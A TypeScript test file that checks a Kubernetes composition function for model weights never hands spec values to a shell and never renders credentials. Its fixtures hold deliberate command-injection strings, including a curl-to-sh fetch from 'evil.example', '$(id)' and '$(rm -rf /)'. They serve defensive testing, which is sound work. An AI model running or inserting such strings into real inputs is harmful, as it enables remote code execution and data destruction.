// No spec value reaches a shell, and no credential reaches the output.
import { field, isObject } from "../../common/json.ts";
import { describe, expect, it } from "vitest";
import type { FunctionResponse, JsonObject } from "../../sdk/types.ts";
import { composeScenario, scenarios } from "../../../test/support/replica-scenarios.ts";
import { baseXr, compose, keysOfKind, manifestAt, request, SENTINEL_SECRET } from "../../../test/support/replica-builders.ts";
import { composeReplica } from "./compose.ts";

function containers(rsp: FunctionResponse): JsonObject[] {
  return keysOfKind(rsp, "Job").flatMap((k) => {
    const pod = field(manifestAt(rsp, k), "spec", "template", "spec");
    const list = [...((field(pod, "containers") as JsonObject[] | undefined) ?? []), ...((field(pod, "initContainers") as JsonObject[] | undefined) ?? [])];
    return list.filter(isObject);
  });
}

const SHELLS = /(^|\/)(sh|bash|dash|ash|zsh|ksh|busybox)$/;

// Hostile values in every field a spec lets through to the Job, each valid by the schema.
const HOSTILE = "main;curl${IFS}evil.example|sh&&$(id)`id`'\"";
const hostileCases: { reason: string; source: JsonObject; needle: string }[] = [
  {
    reason: "a Hugging Face revision with shell metacharacters",
    source: { huggingFace: { repo: "Qwen/Qwen3-8B", revision: HOSTILE, include: [`*.json;${HOSTILE}`], exclude: ["$(rm -rf /)"] } },
    needle: HOSTILE,
  },
  { reason: "an S3 prefix with shell metacharacters", source: { s3: { uri: `s3://models/${HOSTILE}`, region: "$(id)" } }, needle: `s3://models/${HOSTILE}` },
  // (A URL with a query never reaches argv at all: it travels in the files ConfigMap, test/security/credentials-api.test.ts.)
  { reason: "an HTTP URL with a quoted path", source: { http: { url: `https://h.example.com/m'$(id)'.bin`, sha256: "a".repeat(64) } }, needle: "'$(id)'" },
];

describe("no spec value reaches a shell", () => {
  it.each(
    scenarios()
      .filter((s) => s.phase !== "Fatal")
      .map((s) => [s.name, s] as const),
  )("%s: no container runs a shell or a command string", (_n, s) => {
    const rsp = composeScenario(s);
    for (const c of containers(rsp)) {
      const command = (c["command"] as string[] | undefined) ?? [];
      expect(
        command.some((a) => SHELLS.test(a)),
        "no shell as command",
      ).toBe(false);
      const args = c["args"] as string[];
      expect(Array.isArray(args), "args is a list").toBe(true);
      expect(["hydrate", "verify"]).toContain(args[0]);
      expect(
        args.some((a) => a === "-c"),
        "no -c command string",
      ).toBe(false);
    }
  });

  it.each(hostileCases)("$reason appears only inside single argv elements, unaltered", ({ source, needle }) => {
    const rsp = compose(baseXr({ artifact: { kind: "Weights", layout: "Flat", source } }));
    const [c] = containers(rsp);
    const args = (c?.["args"] ?? []) as string[];
    const holding = args.filter((a) => a.includes(needle));
    expect(holding.length, "the value is present").toBeGreaterThan(0);
    // Each element that holds it is a whole value (or flag=value is never built): no element mixes it with another flag.
    for (const a of holding) expect(a.startsWith("--"), `"${a}" is a value, not a flag built around it`).toBe(false);
    expect(c?.["command"]).toBeUndefined();
  });
});

describe("no credential appears in the output", () => {
  const secretRefs: { reason: string; source: JsonObject; envs: string[] }[] = [
    {
      reason: "Hugging Face token",
      source: { huggingFace: { repo: "Qwen/Qwen3-8B", revision: "main", tokenSecretRef: { name: "hf-token", key: "token" } } },
      envs: ["HF_TOKEN"],
    },
    {
      reason: "S3 credentials",
      source: { s3: { uri: "s3://models/q", credentialsSecretRef: { name: "s3-creds" } } },
      envs: ["AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"],
    },
    { reason: "OCI pull secret", source: { oci: { reference: "registry.example.com/m/q:v1", pullSecretRef: { name: "pull" } } }, envs: [] },
  ];

  it.each(secretRefs)("$reason: referenced by Secret name only, the value never rendered", ({ source, envs }) => {
    const req = request(baseXr({ artifact: { kind: "Weights", layout: "Flat", source } }));
    // The sentinel is everywhere a credential could leak from: the function's credentials, the context.
    req.credentials = {
      "hf-token": { token: new TextEncoder().encode(SENTINEL_SECRET) },
      "s3-creds": { AWS_SECRET_ACCESS_KEY: new TextEncoder().encode(SENTINEL_SECRET) },
    };
    const rsp = composeReplica(req, { now: () => 0 });
    const text = JSON.stringify({ ...rsp, context: undefined });
    expect(text).not.toContain(SENTINEL_SECRET);
    const [c] = containers(rsp);
    for (const name of envs) {
      const e = ((c?.["env"] ?? []) as JsonObject[]).find((x) => x["name"] === name);
      expect(e, name).toBeDefined();
      expect(e?.["value"], `${name} has no literal value`).toBeUndefined();
      expect(field(e, "valueFrom", "secretKeyRef", "name")).toBeTypeOf("string");
    }
    // Nothing composed is a Secret: credentials are never copied onto the cluster by the function.
    const kinds = Object.values(rsp.desired.resources).map((s) => field(s.resource, "spec", "forProvider", "manifest", "kind"));
    expect(kinds).not.toContain("Secret");
    for (const a of (c?.["args"] ?? []) as string[]) expect(a).not.toMatch(/token|secret|password/i);
  });

  it("nothing from the function's credentials reaches the response of a plain replica", () => {
    const req = request(baseXr());
    req.credentials = { any: { v: new TextEncoder().encode(SENTINEL_SECRET) } };
    expect(JSON.stringify(composeReplica(req, { now: () => 0 }))).not.toContain(SENTINEL_SECRET);
  });
});
